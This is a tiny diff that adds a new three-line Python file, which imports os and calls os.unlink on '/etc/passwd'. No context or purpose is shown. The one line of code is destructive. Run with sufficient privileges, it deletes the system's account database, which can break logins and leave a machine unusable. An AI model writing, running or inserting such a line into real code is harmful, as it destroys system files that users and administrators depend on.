@@ -1,0 +1,3 @@
+import os
+
+os.unlink('/etc/passwd')
